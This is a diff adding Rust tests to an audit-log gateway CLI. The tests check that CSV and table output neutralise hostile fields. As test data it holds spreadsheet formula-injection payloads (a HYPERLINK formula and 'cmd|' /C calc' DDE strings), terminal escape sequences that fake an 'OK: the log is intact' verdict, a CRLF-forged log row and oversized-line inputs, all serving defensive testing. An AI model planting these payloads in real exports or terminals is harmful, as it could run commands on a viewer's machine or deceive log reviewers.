@@ -9,6 +9,7 @@ use std::time::Duration;
 
 use hetao_gateway_core::audit::{generate_signing_key, AuditEvent, AuditLog, EntryType, RuleRef};
 use hetao_gateway_core::config::{AuditConfig, FsyncPolicy};
+use hetao_gateway_core::tls::identity::ClientIdentity;
 
 fn bin() -> Command {
     Command::new(env!("CARGO_BIN_EXE_hetao-gateway"))
@@ -244,4 +245,254 @@ async fn public_key_is_derived_from_the_signing_key() {
     ]);
     assert!(out.status.success());
     assert_eq!(stdout(&out), std::fs::read_to_string(&s.public).unwrap());
+}
+
+// === output that cannot act (issue 22) ===
+
+/// What a terminal would obey: retitle, clear, home, a green fake verdict.
+const TERMINAL_ATTACK: &str =
+    "\u{1b}]0;PWNED\u{7}\u{1b}[2J\u{1b}[H\u{1b}[32mOK: the log is intact\u{1b}[0m";
+
+/// A log written through the real audit writer holding one decision entry per event.
+async fn log_of(events: Vec<AuditEvent>) -> (tempfile::TempDir, String) {
+    let dir = tempfile::tempdir().unwrap();
+    let (private_pem, _) = generate_signing_key().unwrap();
+    let key = dir.path().join("audit-signing.key");
+    std::fs::write(&key, private_pem).unwrap();
+    let cfg = AuditConfig {
+        log: dir.path().join("audit").join("audit.jsonl"),
+        signing_key: key,
+        fsync: FsyncPolicy::Never,
+        fsync_interval: Duration::from_millis(200),
+        checkpoint_every_entries: 1000,
+        checkpoint_interval: Duration::from_secs(3600),
+        segment_max_bytes: 256 * 1024 * 1024,
+        max_batch: 64,
+        max_queue: 16 * 1024,
+    };
+    let log = AuditLog::open(&cfg).unwrap();
+    for event in events {
+        log.append(event).await.unwrap();
+    }
+    log.close().await.unwrap();
+    (dir, cfg.log.display().to_string())
+}
+
+/// An invalid envelope's entry, as the pipeline writes it: the sender chose every text in it.
+fn invalid_envelope(record_id: &str, from: &str, to: &str, organisation: &str) -> AuditEvent {
+    AuditEvent {
+        entry_type: Some(EntryType::Decision),
+        record_id: Some(record_id.into()),
+        from: Some(from.into()),
+        to: Some(to.into()),
+        sender: Some(ClientIdentity {
+            park: "sz".into(),
+            organisation: organisation.into(),
+            subject: format!("O={organisation}"),
+            fingerprint_sha256: "00".repeat(32),
+        }),
+        decision: "invalid".into(),
+        status: 400,
+        error: Some("invalid_envelope".into()),
+        ..Default::default()
+    }
+}
+
+/// The cells of an RFC 4180 CSV text (quoted cells may hold separators and quotes).
+fn csv_rows(text: &str) -> Vec<Vec<String>> {
+    let mut rows = Vec::new();
+    let mut row = Vec::new();
+    let mut cell = String::new();
+    let mut quoted = false;
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (quoted, c) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            (true, '"') => quoted = false,
+            (true, c) => cell.push(c),
+            (false, '"') => quoted = true,
+            (false, ',') => row.push(std::mem::take(&mut cell)),
+            (false, '\n') => {
+                row.push(std::mem::take(&mut cell));
+                rows.push(std::mem::take(&mut row));
+            }
+            (false, c) => cell.push(c),
+        }
+    }
+    rows
+}
+
+#[tokio::test]
+async fn csv_cells_a_spreadsheet_would_run_are_neutralised() {
+    let organisation = "=HYPERLINK(\"http://x\"&A1;\"Click\")";
+    let (_dir, log) = log_of(vec![invalid_envelope(
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+        "=1+2",
+        "+cmd|'/C calc'!A0",
+        organisation,
+    )])
+    .await;
+
+    let out = run(&[
+        "audit", "query", &log, "--type", "decision", "--format", "csv",
+    ]);
+    assert!(out.status.success(), "{}", stdout(&out));
+    let rows = csv_rows(&stdout(&out));
+    assert_eq!(rows.len(), 2, "{rows:?}");
+    let (header, cells) = (&rows[0], &rows[1]);
+    let cell = |name: &str| cells[header.iter().position(|h| h == name).unwrap()].as_str();
+    assert_eq!(cell("record_id"), "'@SUM(1+9)*cmd|' /C calc'!A0");
+    assert_eq!(cell("from"), "'=1+2");
+    assert_eq!(cell("to"), "'+cmd|'/C calc'!A0");
+    assert_eq!(cell("organisation"), format!("'{organisation}"));
+    // Numbers stay numbers.
+    assert!(cell("seq").parse::<u64>().is_ok(), "{cells:?}");
+    assert_eq!(cell("status"), "400");
+    for c in cells {
+        assert!(!c.starts_with(['=', '+', '-', '@', '\t', '\r']), "{c}");
+    }
+    // Quoted as written: the raw line carries the quote inside the quotes.
+    assert!(stdout(&out).contains("\"'=1+2\""), "{}", stdout(&out));
+
+    let stats = run(&["audit", "query", &log, "--stats", "--format", "csv"]);
+    let rows = csv_rows(&stdout(&stats));
+    let value = |group: &str| {
+        rows.iter()
+            .find(|r| r[0] == group)
+            .map(|r| r[1].clone())
+            .unwrap_or_else(|| panic!("no {group} row in {rows:?}"))
+    };
+    assert_eq!(value("route"), "'=1+2->+cmd|'/C calc'!A0");
+    assert_eq!(value("organisation"), format!("'{organisation}"));
+    for r in &rows {
+        assert!(!r[1].starts_with(['=', '+', '-', '@', '\t', '\r']), "{r:?}");
+    }
+}
+
+#[tokio::test]
+async fn table_and_stats_show_control_characters_as_escapes() {
+    let (_dir, log) = log_of(vec![
+        invalid_envelope(TERMINAL_ATTACK, "sz", "hk", "Org \u{1b}[31mRed"),
+        invalid_envelope(
+            "rec-1\r\n9  2026-01-01T00:00:00Z  decision  forged",
+            "sz",
+            "hk",
+            "Org",
+        ),
+        invalid_envelope("深圳河套-记录", "sz", "hk", "深圳河套生物样本中心"),
+    ])
+    .await;
+
+    let out = run(&["audit", "query", &log, "--type", "decision"]);
+    assert!(out.status.success());
+    let table = stdout(&out);
+    assert!(!table.contains('\u{1b}') && !table.contains('\u{7}') && !table.contains('\r'));
+    assert!(table.contains("\\u{1b}]0;PWNED\\u{7}\\u{1b}[2J"), "{table}");
+    assert!(table.contains("rec-1\\r\\n9"), "{table}");
+    // One line per entry: the header, three rows, the count. No forged row.
+    assert_eq!(table.lines().count(), 5, "{table}");
+    assert!(table.contains("(3 entries)"), "{table}");
+    // Letters of any script stay readable.
+    assert!(table.contains("深圳河套生物样本中心"), "{table}");
+
+    let stats = stdout(&run(&["audit", "query", &log, "--stats"]));
+    assert!(!stats.contains('\u{1b}'), "{stats}");
+    assert!(stats.contains("Org \\u{1b}[31mRed"), "{stats}");
+}
+
+#[tokio::test]
+async fn verify_shows_what_a_forged_line_holds_as_escapes() {
+    let (_dir, log) = log_of(vec![invalid_envelope("rec-1", "sz", "hk", "Org")]).await;
+    let text = std::fs::read_to_string(&log).unwrap();
+    let mut lines: Vec<String> = text.lines().map(str::to_string).collect();
+    // The stored hash of entry 1 replaced by 64 bytes of terminal commands: `verify` quotes
+    // the stored hash in its error.
+    let forged = format!(
+        "\u{1b}[2J\u{1b}[H\u{1b}[32mOK: the log is intact\u{1b}[0m{}",
+        "x".repeat(64)
+    );
+    let forged: String = forged.chars().take(64).collect();
+    assert_eq!(forged.len(), 64);
+    let line = &lines[1];
+    lines[1] = format!("{}{forged}\"}}", &line[..line.len() - 66]);
+    std::fs::write(&log, lines.join("\n") + "\n").unwrap();
+
+    let out = run(&["audit", "verify", &log]);
+    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
+    let text = stdout(&out);
+    assert!(!text.contains('\u{1b}'), "{text}");
+    assert!(text.contains("hash mismatch"), "{text}");
+    assert!(text.contains("\\u{1b}[2J\\u{1b}[H"), "{text}");
+    assert!(!text.contains("\nOK: the log is intact"), "{text}");
+}
+
+// === bounded lines (issue 22) ===
+
+/// Runs the binary and waits at most `limit`; a run that takes longer is killed and fails.
+fn run_within(args: &[&str], limit: Duration) -> Output {
+    let mut child = bin()
+        .args(args)
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let started = std::time::Instant::now();
+    while child.try_wait().unwrap().is_none() {
+        if started.elapsed() > limit {
+            child.kill().unwrap();
+            let _ = child.wait();
+            panic!("hetao-gateway {args:?} still running after {limit:?}");
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    child.wait_with_output().unwrap()
+}
+
+#[tokio::test]
+async fn a_line_longer_than_a_mebibyte_is_refused_naming_the_file_and_line() {
+    let s = setup(256 * 1024 * 1024).await;
+    let mut text = std::fs::read(&s.log).unwrap();
+    let good_lines = text.iter().filter(|b| **b == b'\n').count();
+    text.extend(vec![b'x'; 2 * 1024 * 1024]);
+    text.push(b'\n');
+    std::fs::write(&s.log, text).unwrap();
+    let line = format!("line {}", good_lines + 1);
+
+    let verify = run_within(&["audit", "verify", &s.log], Duration::from_secs(20));
+    assert_eq!(verify.status.code(), Some(1), "{}", stdout(&verify));
+    let out = stdout(&verify);
+    assert!(
+        out.contains(&format!("audit.jsonl {line}: longer than 1048576 bytes")),
+        "{out}"
+    );
+
+    let query = run_within(&["audit", "query", &s.log], Duration::from_secs(20));
+    assert_eq!(query.status.code(), Some(2));
+    let err = String::from_utf8_lossy(&query.stderr);
+    assert!(
+        err.contains(&format!("audit.jsonl: {line} is longer than 1048576 bytes")),
+        "{err}"
+    );
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn verify_and_query_of_dev_zero_end_with_an_error_not_out_of_memory() {
+    let verify = run_within(&["audit", "verify", "/dev/zero"], Duration::from_secs(10));
+    assert_eq!(verify.status.code(), Some(1), "{}", stdout(&verify));
+    assert!(
+        stdout(&verify).contains("/dev/zero line 1: longer than 1048576 bytes"),
+        "{}",
+        stdout(&verify)
+    );
+    let query = run_within(&["audit", "query", "/dev/zero"], Duration::from_secs(10));
+    assert_eq!(query.status.code(), Some(2));
+    let err = String::from_utf8_lossy(&query.stderr);
+    assert!(
+        err.contains("/dev/zero: line 1 is longer than 1048576 bytes"),
+        "{err}"
+    );
 }
